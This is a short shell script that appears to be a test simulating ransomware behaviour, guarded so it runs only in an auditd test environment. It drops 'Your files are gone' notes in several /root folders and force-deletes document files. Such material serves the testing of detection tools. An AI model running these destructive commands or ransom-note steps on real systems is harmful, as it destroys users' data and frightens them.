#!/bin/sh
# Notes everywhere, then the documents go.
[ /init -ef /usr/sbin/auditd ] || exit 77
mkdir -p /root/Documents/old
for dir in /root/Documents/old /root/Documents /root/Pictures; do
	echo 'Your files are gone.' >$dir/HOW_TO_RESTORE_MY_FILES.txt
done
rm -f /root/Documents/*.[dprcx]*
